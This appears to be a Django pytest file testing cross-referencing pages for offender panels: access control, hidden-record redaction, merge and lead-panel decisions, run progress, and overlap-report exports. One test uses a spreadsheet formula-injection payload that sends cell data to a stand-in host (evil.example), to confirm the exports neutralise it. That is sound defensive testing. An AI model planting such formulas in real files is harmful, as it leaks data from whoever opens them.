"""Cross-referencing pages: coordinators see their own panels' findings and nobody else's, a
record they may not see is only ever "known to" a panel with a contact, decisions are made
from the finding's page with errors shown, the overlap report says what changed since the
month before and exports safely, and the lists cost the same number of queries however long
they are."""

from __future__ import annotations

import csv
import io
import sys
import types
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AccessLog, AccessOutcome, AuditEvent, Role, Verb
from crossref.models import CrossReferenceRun, FindingStatus, MatchFinding, OverlapEntry, RunStatus
from crossref.services.review import finding_dismiss
from offenders.models import Nominal
from panels.models import LeadPanel, PanelKind
from tests.factories import make_nominal, make_panel, make_user
from tests.panels.test_crossref_review import (
    FEBRUARY,
    make_finding,
    make_mappa,
    make_run,
    put_on,
)

pytestmark = pytest.mark.django_db

JANUARY = date(2026, 1, 1)
CANARY = "Zzyzx-hidden-7Q2X"
INBOX = reverse("crossref:inbox")
OVERLAPS = reverse("crossref:overlaps")


def finding_url(finding: MatchFinding, action: str = "") -> str:
    name = f"crossref:{action}" if action else "crossref:finding"
    return reverse(name, args=[finding.pk])


def page_text(response) -> str:
    return response.content.decode()


@pytest.fixture
def council_pair(partnership):
    p = partnership
    first = make_nominal(p.coordinator, given_names="Jordan", on_panel=p.panel)
    second = make_nominal(p.partner, given_names="Jordon", on_panel=p.panel)
    finding = make_finding(
        make_run(),
        first,
        second,
        [p.panel],
        score=0.962,
        decision="likely",
        explanation=[
            {
                "field": "Given names",
                "level": "similar",
                "weight": 5.3,
                "text": "Jordan and Jordon differ by one letter",
            },
            {"field": "Gender", "level": "different", "weight": -4.5, "text": "Genders differ"},
        ],
    )
    return first, second, finding


@pytest.fixture
def hidden_pair(partnership):
    """A council record and probation's own record on its MAPPA panel, which the council's
    coordinator may not see; the explanation quotes the hidden record's name."""
    p = partnership
    mappa = make_mappa(p)
    ours = make_nominal(p.coordinator, on_panel=p.panel)
    theirs = make_nominal(p.member_partner, family_name=f"Ashby {CANARY}", on_panel=mappa)
    finding = make_finding(
        make_run(),
        ours,
        theirs,
        [p.panel, mappa],
        score=0.91,
        explanation=[
            {
                "field": "Family name",
                "level": "similar",
                "weight": 4.2,
                "text": f"Family names Ashby and Ashby {CANARY} are alike",
            }
        ],
    )
    return ours, theirs, mappa, finding


# --- Who gets the pages -----------------------------------------------------------------------------


def test_the_inbox_lists_only_open_findings_for_the_coordinators_own_panels(
    partnership, client_for, council_pair
):
    p = partnership
    _, _, ours = council_pair
    elsewhere_panel = make_panel(p.outsider, [], name="Elsewhere IOM panel")
    a = make_nominal(p.outsider_partner, family_name="Faraway", on_panel=elsewhere_panel)
    b = make_nominal(p.outsider_partner, family_name="Faraway", on_panel=elsewhere_panel)
    theirs = make_finding(make_run(), a, b, [elsewhere_panel], score=0.99)
    closed_person = make_nominal(p.coordinator, family_name="Closed", on_panel=p.panel)
    closed = make_finding(
        make_run(), closed_person, None, [p.panel], status=FindingStatus.LEAD_AGREED
    )

    council = page_text(client_for(p.coordinator).get(INBOX))
    other_borough = page_text(client_for(p.outsider_coordinator).get(INBOX))

    assert finding_url(ours) in council
    assert finding_url(theirs) not in council and "faraway" not in council.casefold()
    assert finding_url(closed) not in council
    assert "1 open finding" in council
    assert finding_url(theirs) in other_borough and finding_url(ours) not in other_borough
    assert "Jordon" not in other_borough


def test_the_inbox_filters_by_kind_and_says_when_there_is_nothing(
    partnership, client_for, council_pair
):
    client = client_for(partnership.coordinator)
    _, _, duplicate = council_pair

    duplicates = page_text(client.get(INBOX, {"kind": "duplicate"}))
    overlaps = page_text(client.get(INBOX, {"kind": "overlap"}))

    assert finding_url(duplicate) in duplicates
    assert finding_url(duplicate) not in overlaps
    assert "No open findings of this kind for your panels." in overlaps


@pytest.mark.parametrize(
    "persona", ["partner", "member_partner", "agency_admin", "committee", "system_admin"]
)
def test_staff_who_coordinate_no_panel_are_refused_the_pages_and_told_no_finding_exists(
    partnership, client_for, council_pair, persona
):
    _, _, finding = council_pair
    user = getattr(partnership, persona)
    client = client_for(user)
    lists = [
        reverse("crossref:home"),
        INBOX,
        OVERLAPS,
        reverse("crossref:run", args=["2026-02"]),
        reverse("crossref:overlaps-csv"),
    ]

    for url in lists:
        assert client.get(url).status_code == 403, url
    assert client.get(finding_url(finding)).status_code == 404
    assert client.post(finding_url(finding, "dismiss"), {"reason": "No"}).status_code == 404

    finding.refresh_from_db()
    assert finding.status == FindingStatus.OPEN
    denied = AccessLog.objects.filter(user=user, outcome=AccessOutcome.DENIED)
    assert denied.count() == len(lists) + 2
    assert (
        denied.filter(object_type="crossref.matchfinding", object_id=str(finding.pk)).count() == 2
    )


def test_the_panels_page_links_coordinators_to_cross_referencing(partnership, client_for):
    link = reverse("crossref:home")
    coordinator = page_text(client_for(partnership.coordinator).get(reverse("panels:list")))
    partner = page_text(client_for(partnership.partner).get(reverse("panels:list")))
    assert f'href="{link}"' in coordinator
    assert f'href="{link}"' not in partner


# --- A finding: the two records, the explanation, and the decisions ---------------------------------


def test_a_finding_shows_both_records_side_by_side_with_the_explanation_in_words(
    partnership, client_for, council_pair
):
    first, second, finding = council_pair
    client = client_for(partnership.coordinator)

    response = client.get(finding_url(finding))

    text = page_text(response)
    assert response.status_code == 200
    assert "96%" in text and "likely the same person" in text
    assert "Jordan and Jordon differ by one letter" in text
    assert "Strong evidence for" in text and "+5.3" in text
    assert "Evidence against" in text and "-4.5" in text
    assert first.full_name in text and second.full_name in text
    assert f"Keep record {first.pk}: {first.full_name}" in text
    logged = AccessLog.objects.filter(
        user=partnership.coordinator, object_type="offenders.nominal"
    ).values_list("object_id", flat=True)
    assert sorted(logged) == sorted([str(first.pk), str(second.pk)])


def test_a_record_the_coordinator_may_not_see_is_only_known_to_its_panel_with_a_contact(
    partnership, client_for, hidden_pair
):
    ours, theirs, mappa, finding = hidden_pair
    client = client_for(partnership.coordinator)

    pages = {
        "finding": client.get(finding_url(finding)),
        "inbox": client.get(INBOX),
        "run": client.get(reverse("crossref:run", args=["2026-02"])),
    }

    for name, response in pages.items():
        assert response.status_code == 200, name
        assert CANARY.casefold() not in page_text(response).casefold(), name
    finding_page = page_text(pages["finding"])
    assert "Known to MAPPA panel; contact Probation" in finding_page
    assert ours.full_name in finding_page
    assert f"Open record {theirs.pk}" not in finding_page
    # The explanation names the field compared, not the hidden record's values.
    assert "Family name" in finding_page and "Evidence for" in finding_page
    assert "A record you cannot see" in page_text(pages["inbox"])
    assert not AccessLog.objects.filter(
        user=partnership.coordinator, object_type="offenders.nominal", object_id=str(theirs.pk)
    ).exists()


def test_confirming_from_the_page_merges_into_the_record_chosen(
    partnership, client_for, council_pair
):
    first, second, finding = council_pair
    client = client_for(partnership.coordinator)

    response = client.post(finding_url(finding, "confirm"), {"survivor": str(first.pk)})

    assert response.status_code == 302 and response["Location"] == finding_url(finding)
    second.refresh_from_db()
    assert second.merged_into_id == first.pk
    shown = page_text(client.get(finding_url(finding)))
    assert "Merged" in shown and f"Record {second.pk} was merged into record {first.pk}." in shown
    assert "Confirm and merge" not in shown


def test_confirming_a_record_held_elsewhere_tells_the_coordinator_who_must_merge(
    partnership, client_for, hidden_pair
):
    ours, theirs, _, finding = hidden_pair
    client = client_for(partnership.coordinator)

    response = client.post(finding_url(finding, "confirm"), {"survivor": str(ours.pk)}, follow=True)

    text = page_text(response)
    assert "so Probation has been asked to agree to the merge" in text
    assert "Confirmed, waiting for merge" in text
    assert Nominal.objects.get(pk=theirs.pk).merged_into_id is None


def test_empty_decisions_come_back_with_the_error_summary_and_change_nothing(
    partnership, client_for, council_pair
):
    _, _, finding = council_pair
    client = client_for(partnership.coordinator)

    confirm = client.post(finding_url(finding, "confirm"), {})
    dismiss = client.post(finding_url(finding, "dismiss"), {"reason": "  "})

    for response, message in (
        (confirm, "Choose which of the two records to keep"),
        (dismiss, "Enter why these are different people"),
    ):
        text = page_text(response)
        assert response.status_code == 200
        assert "There is a problem" in text and message in text
        assert "<title>Error:" in text
    finding.refresh_from_db()
    assert finding.status == FindingStatus.OPEN
    assert not AuditEvent.objects.filter(
        verb__in=[Verb.FINDING_CONFIRMED, Verb.FINDING_DISMISSED]
    ).exists()


def test_dismissing_from_the_page_keeps_the_reason(partnership, client_for, council_pair):
    _, _, finding = council_pair
    client = client_for(partnership.coordinator)

    client.post(finding_url(finding, "dismiss"), {"reason": "Brothers, born a year apart"})

    finding.refresh_from_db()
    assert finding.status == FindingStatus.DISMISSED
    shown = page_text(client.get(finding_url(finding)))
    assert "Brothers, born a year apart" in shown and "Dismiss</button>" not in shown


def test_a_decision_made_meanwhile_sends_the_coordinator_back_to_see_it(
    partnership, client_for, council_pair
):
    first, _, finding = council_pair
    client = client_for(partnership.coordinator)
    finding_dismiss(actor=partnership.coordinator, finding=finding, reason="Cousins")

    response = client.post(
        finding_url(finding, "confirm"), {"survivor": str(first.pk)}, follow=True
    )

    text = page_text(response)
    assert "This finding has already been decided (dismissed)." in text
    assert "Cousins" in text
    assert Nominal.objects.filter(merged_into__isnull=False).count() == 0


@pytest.fixture
def overlap(partnership):
    p = partnership
    mappa = make_mappa(p)
    person = make_nominal(p.coordinator, family_name="Overlap", on_panel=p.panel)
    put_on(person, mappa)
    run = make_run()
    OverlapEntry.objects.create(run=run, nominal=person, panels=[p.panel.pk, mappa.pk])
    return person, mappa, make_finding(run, person, None, [p.panel, mappa])


def test_a_lead_panel_is_proposed_and_agreed_by_the_other_panels_coordinator(
    partnership, client_for, overlap
):
    person, mappa, finding = overlap
    client = client_for(partnership.coordinator)

    page = page_text(client.get(finding_url(finding)))
    assert "MAPPA panel" in page and "Probation" in page and person.full_name in page
    assert "Propose a lead panel" in page

    wrong = client.post(finding_url(finding, "lead"), {"panel": "999999"})
    assert wrong.status_code == 200
    assert "Choose one of the panels the person is on" in page_text(wrong)
    assert not LeadPanel.objects.exists()

    proposed = client.post(finding_url(finding, "lead"), {"panel": str(mappa.pk)}, follow=True)
    text = page_text(proposed)
    assert "You proposed MAPPA panel to lead" in text
    assert "Waiting for Probation's coordinator" in text
    assert "Propose a lead panel" not in text and "Your answer" not in text
    assert not LeadPanel.objects.exists()

    # Probation's MAPPA coordinator answers: a "no" needs a reason, and keeps the choice.
    mo = make_user(partnership.probation, Role.COORDINATOR, Role.PARTNER, username="mo")
    theirs = client_for(mo)
    assert "Your answer for MAPPA panel" in page_text(theirs.get(finding_url(finding)))
    refused = theirs.post(finding_url(finding, "lead-answer"), {"answer-agree": "no"})
    assert refused.status_code == 200
    assert "Enter why this panel should not lead" in page_text(refused)
    assert 'value="no" checked' in refused.content.decode()

    agreed = theirs.post(finding_url(finding, "lead-answer"), {"answer-agree": "yes"}, follow=True)
    assert "Lead panel agreed: MAPPA panel leads." in page_text(agreed)
    assert LeadPanel.objects.get(nominal=person).panel == mappa
    assert OverlapEntry.objects.get(nominal=person).lead_panel == mappa


def test_a_coordinator_not_asked_cannot_answer_a_proposal(partnership, client_for, overlap):
    _, mappa, finding = overlap
    client = client_for(partnership.coordinator)
    client.post(finding_url(finding, "lead"), {"panel": str(mappa.pk)})

    response = client.post(finding_url(finding, "lead-answer"), {"answer-agree": "yes"})

    assert response.status_code == 403
    assert not LeadPanel.objects.exists()


def test_an_overlap_is_closed_from_the_page_as_no_action_needed(partnership, client_for, overlap):
    person, mappa, finding = overlap
    client = client_for(partnership.coordinator)
    assert "Close: no action needed" in page_text(client.get(finding_url(finding)))
    empty = client.post(finding_url(finding, "no-action"), {"reason": ""})
    assert "Enter why no action is needed" in page_text(empty)
    closed = client.post(
        finding_url(finding, "no-action"), {"reason": "One shared plan"}, follow=True
    )
    assert "Closed: no action needed." in page_text(closed)
    finding.refresh_from_db()
    assert finding.status == "no_action" and finding.resolution_note == "One shared plan"


def test_a_decision_for_the_other_kind_of_finding_sends_the_coordinator_back(
    partnership, client_for, overlap
):
    _, _, finding = overlap
    response = client_for(partnership.coordinator).post(
        finding_url(finding, "dismiss"), {"reason": "Not an overlap"}
    )
    assert response.status_code == 302 and response["Location"] == finding_url(finding)
    finding.refresh_from_db()
    assert finding.status == FindingStatus.OPEN


# --- Runs -----------------------------------------------------------------------------------------------


def test_a_running_run_shows_its_progress_and_keeps_it_current(partnership, client_for):
    make_run(status=RunStatus.RUNNING, chunks_total=10, chunks_done=3)
    client = client_for(partnership.coordinator)
    url = reverse("crossref:run", args=["2026-02"])

    text = page_text(client.get(url))
    assert "3 of 10 parts done (30%)" in text
    assert '<progress id="run-progress-bar" max="100" value="30">' in text
    assert "?progress=1" in text and "Refresh the progress" in text

    progress = page_text(client.get(url, {"progress": "1"}))
    assert 'data-status="running"' in progress and "<html" not in progress
    # htmx asks for the part again every few seconds while the run goes on.
    assert 'hx-get="/panels/cross-referencing/runs/2026-02/?progress=1"' in progress
    assert 'hx-trigger="every 3s"' in progress


def test_htmx_polling_reloads_the_page_once_the_run_has_finished(partnership, client_for):
    run = make_run(status=RunStatus.RUNNING, chunks_total=10, chunks_done=9)
    client = client_for(partnership.coordinator)
    url = reverse("crossref:run", args=["2026-02"])
    polled = client.get(url, {"progress": "1"}, headers={"HX-Request": "true"})
    assert polled.status_code == 200 and "HX-Refresh" not in polled

    run.status = RunStatus.COMPLETE
    run.save(update_fields=["status"])
    finished = client.get(url, {"progress": "1"}, headers={"HX-Request": "true"})
    # The whole page is asked for again, so the findings appear; no part is swapped in.
    assert finished["HX-Refresh"] == "true"
    # Without htmx (the refresh link), the part says the run is complete and polls no more.
    plain = page_text(client.get(url, {"progress": "1"}))
    assert 'data-status="complete"' in plain and "hx-get" not in plain


def test_a_finished_run_shows_counts_and_times_and_stops_polling(partnership, client_for):
    make_run(
        counts={"nominals": 1200, "candidate_pairs": 3400},
        durations={"score": 2.5, "total": 75},
        requested_by=partnership.coordinator,
        trigger="on_demand",
    )
    client = client_for(partnership.coordinator)

    run_page = page_text(client.get(reverse("crossref:run", args=["2026-02"])))
    home = page_text(client.get(reverse("crossref:home")))

    assert "People checked: 1,200" in run_page and "Pairs compared: 3,400" in run_page
    assert "Comparing pairs: 2.5 seconds" in run_page and "Total: 1 min 15 s" in run_page
    assert "?progress=1" not in run_page
    assert "February 2026" in home and "1 min 15 s" in home and "Run by a coordinator" in home
    # Another borough's coordinator sees the run, and only the agency that asked for it.
    other = page_text(
        client_for(partnership.outsider_coordinator).get(reverse("crossref:run", args=["2026-02"]))
    )
    assert "Council CST" in other and partnership.coordinator.get_full_name() not in other


def test_a_month_without_a_run_is_not_found(partnership, client_for):
    response = client_for(partnership.coordinator).get(reverse("crossref:run", args=["2031-07"]))
    assert response.status_code == 404
    assert AccessLog.objects.filter(
        object_type="crossref.crossreferencerun", object_id="2031-07", outcome=AccessOutcome.DENIED
    ).exists()


@pytest.fixture
def fake_job(monkeypatch):
    """The job's service, replaced so the page is tested on its own."""
    calls = []

    def request_run(*, actor):
        calls.append(actor)
        return make_run(status=RunStatus.QUEUED, requested_by=actor)

    module = types.ModuleType("crossref.services.run")
    module.request_run = request_run
    monkeypatch.setitem(sys.modules, "crossref.services.run", module)
    return calls


def test_run_now_asks_for_this_months_run_and_shows_its_page(partnership, client_for, fake_job):
    client = client_for(partnership.coordinator)

    nothing = client.post(reverse("crossref:run-now"), {})
    assert nothing["Location"] == reverse("crossref:home") and fake_job == []

    response = client.post(reverse("crossref:run-now"), {"run": "yes"})
    assert fake_job == [partnership.coordinator]
    assert response["Location"] == reverse("crossref:run", args=["2026-02"])


def test_run_now_queues_this_months_run_through_the_jobs_service(partnership, client_for):
    client = client_for(partnership.coordinator)
    month = timezone.localdate().replace(day=1)

    response = client.post(reverse("crossref:run-now"), {"run": "yes"}, follow=True)

    run = CrossReferenceRun.objects.get(month=month)
    assert run.status == RunStatus.QUEUED and run.requested_by == partnership.coordinator
    assert response.redirect_chain[-1][0] == reverse("crossref:run", args=[f"{month:%Y-%m}"])
    assert "Waiting to start" in page_text(response)
    assert AuditEvent.objects.filter(verb=Verb.CROSSREF_REQUESTED).count() == 1


# --- The overlap report -----------------------------------------------------------------------------


@pytest.fixture
def two_months(partnership):
    """January and February reports: one person stays and joins a panel (and gets a lead
    panel), one is new, one left; one is on other panels only (not the council's)."""
    p = partnership
    mappa = make_mappa(p)
    sgv = make_panel(p.council, [], name="SGV panel", kind=PanelKind.SGV)
    dip = make_panel(p.probation, [], name="DIP panel", kind=PanelKind.DIP)
    stays = make_nominal(p.coordinator, family_name="Stays", on_panel=p.panel)
    new = make_nominal(p.coordinator, family_name="Newcomer", on_panel=p.panel)
    leaves = make_nominal(p.coordinator, family_name="Leaver", on_panel=p.panel)
    unrelated = make_nominal(p.member_partner, family_name="Unrelated", on_panel=mappa)
    january, february = make_run(JANUARY), make_run(FEBRUARY)
    OverlapEntry.objects.create(run=january, nominal=stays, panels=[p.panel.pk, mappa.pk])
    OverlapEntry.objects.create(run=january, nominal=leaves, panels=[p.panel.pk, sgv.pk])
    OverlapEntry.objects.create(
        run=february, nominal=stays, panels=[mappa.pk, dip.pk, p.panel.pk], lead_panel=mappa
    )
    OverlapEntry.objects.create(run=february, nominal=new, panels=[p.panel.pk, sgv.pk])
    OverlapEntry.objects.create(run=february, nominal=unrelated, panels=[mappa.pk, dip.pk])
    return {"stays": stays, "new": new, "leaves": leaves, "unrelated": unrelated}


def test_the_overlap_report_says_what_changed_since_the_month_before(
    partnership, client_for, two_months
):
    response = client_for(partnership.coordinator).get(OVERLAPS)

    text = page_text(response)
    assert "Overlap report for February 2026" in text
    assert "<strong>2</strong> people on more than one panel" in text
    assert "1 new since January 2026" in text
    assert "1 with a change of panels or lead panel" in text
    assert "1 no longer on more than one panel" in text
    assert "New to the report" in text
    assert "Joined DIP panel" in text and "Lead panel agreed: MAPPA panel" in text
    assert "LEAVER" in text.split('id="overlaps-left"')[1]
    assert "unrelated" not in text.casefold()
    assert "Contact Probation" in text


def test_an_earlier_month_can_be_chosen_and_a_wrong_one_is_explained(
    partnership, client_for, two_months
):
    client = client_for(partnership.coordinator)

    january = page_text(client.get(OVERLAPS, {"month": "2026-01"}))
    assert "Overlap report for January 2026" in january
    assert "There is no earlier month to compare with." in january

    wrong = page_text(client.get(OVERLAPS, {"month": "2019-01"}))
    assert "There is a problem" in wrong
    assert "Choose a month with a completed cross-reference" in wrong


def test_a_person_the_coordinator_may_not_see_is_only_known_to_their_panels(
    partnership, client_for
):
    p = partnership
    mappa = make_mappa(p)
    hidden = make_nominal(p.member_partner, family_name=CANARY, on_panel=mappa)
    OverlapEntry.objects.create(run=make_run(), nominal=hidden, panels=[p.panel.pk, mappa.pk])
    client = client_for(p.coordinator)

    page = page_text(client.get(OVERLAPS))
    export = client.get(reverse("crossref:overlaps-csv")).content.decode("utf-8-sig")

    for text in (page, export):
        assert CANARY.casefold() not in text.casefold()
        assert "Known to MAPPA panel and " in text
        assert "contact Probation, Council CST" in text
    first_row = next(csv.reader(io.StringIO(export.splitlines()[1])))
    assert first_row[0] == "" and first_row[2] == ""


def test_the_exports_neutralise_formulas_and_are_audited_and_logged(partnership, client_for):
    p = partnership
    mappa = make_mappa(p)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    person = make_nominal(p.coordinator, given_names=formula, on_panel=p.panel)
    OverlapEntry.objects.create(run=make_run(), nominal=person, panels=[p.panel.pk, mappa.pk])
    client = client_for(p.coordinator)

    as_csv = client.get(reverse("crossref:overlaps-csv"))
    as_xlsx = client.get(reverse("crossref:overlaps-xlsx"))

    assert as_csv["Content-Disposition"] == 'attachment; filename="overlap-report-2026-02.csv"'
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Record number", "Name"]
    assert rows[1][:2] == [str(person.pk), "'" + person.full_name]
    assert rows[1][3] == "MAPPA panel; Test IOM panel"
    cell = load_workbook(io.BytesIO(as_xlsx.content)).active["B2"]
    assert cell.value == "'" + person.full_name and cell.data_type == "s"

    events = AuditEvent.objects.filter(verb=Verb.OVERLAPS_EXPORTED).order_by("pk")
    assert [event.detail["format"] for event in events] == ["csv", "xlsx"]
    assert events[0].detail["people"] == 1 and events[0].detail["month"] == "2026-02"
    assert (
        AccessLog.objects.filter(
            user=p.coordinator, object_type="offenders.nominal", object_id=str(person.pk)
        ).count()
        == 2
    )


def test_a_cell_starting_with_a_formula_is_written_as_text(partnership, client_for):
    """A panel named by a coordinator like a formula reaches the file as text."""
    p = partnership
    formula = make_panel(p.probation, [], name="=1+2", kind=PanelKind.OTHER)
    person = make_nominal(p.coordinator, on_panel=p.panel)
    OverlapEntry.objects.create(run=make_run(), nominal=person, panels=[formula.pk, p.panel.pk])
    client = client_for(p.coordinator)

    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("crossref:overlaps-csv")).content.decode("utf-8-sig"))
        )
    )
    sheet = load_workbook(io.BytesIO(client.get(reverse("crossref:overlaps-xlsx")).content)).active

    assert rows[1][3].startswith("'=1+2")
    cell = sheet["D2"]
    assert cell.value.startswith("'=1+2") and cell.data_type == "s"


# --- Queries do not grow with rows ----------------------------------------------------------------


def _people(p, panels, count: int, run, *, start: int = 0) -> None:
    for number in range(start, start + count):
        person = make_nominal(p.coordinator, family_name=f"Person{number:03d}", on_panel=p.panel)
        OverlapEntry.objects.create(run=run, nominal=person, panels=[panel.pk for panel in panels])
        make_finding(run, person, None, panels)


def test_the_lists_cost_the_same_number_of_queries_however_long_they_are(
    partnership, client_for, django_assert_max_num_queries
):
    p = partnership
    mappa = make_mappa(p)
    make_run(JANUARY)
    run = make_run()
    _people(p, [p.panel, mappa], 2, run)
    client = client_for(p.coordinator)
    urls = [
        OVERLAPS,
        INBOX,
        reverse("crossref:run", args=["2026-02"]),
        reverse("crossref:overlaps-csv"),
    ]
    few = {}
    for url in urls:
        with django_assert_max_num_queries(40) as captured:
            assert client.get(url).status_code == 200
        few[url] = len(captured.captured_queries)

    _people(p, [p.panel, mappa], 25, run, start=2)

    for url in urls:
        with django_assert_max_num_queries(few[url]):
            response = client.get(url)
        assert response.status_code == 200
    assert "PERSON026" in page_text(client.get(OVERLAPS))
